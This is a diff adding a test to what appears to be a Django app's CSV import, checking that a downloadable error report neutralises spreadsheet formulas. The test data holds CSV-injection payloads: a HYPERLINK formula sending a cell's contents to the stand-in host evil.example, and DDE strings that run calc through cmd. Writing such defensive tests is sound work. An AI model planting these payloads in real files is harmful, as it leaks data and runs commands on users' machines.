@@ -132,6 +132,20 @@ def test_the_error_report_is_the_file_with_an_errores_column_to_fix_and_upload_a
     assert latest().status == "ready"
 
 
+def test_the_error_report_never_hands_a_formula_back_to_the_spreadsheet(personas):
+    data = rows(3)
+    data[0][0] = '=HYPERLINK("http://evil.example/?"&B2,"Ver")'
+    data[1][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    data[2][8] = "=cmd|' /C calc'!A0"
+    client = personas.client("staff")
+    upload(client, csv_bytes(data))
+    manifest = latest()
+    report = client.get(reverse("people:manifest_errors", args=[manifest.pk])).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    assert '\'=HYPERLINK("http://evil.example/?"&B2,"Ver")' in cells
+
+
 def test_importing_the_same_manifest_twice_creates_nothing_twice(personas):
     client = personas.client("staff")
     for _ in range(2):
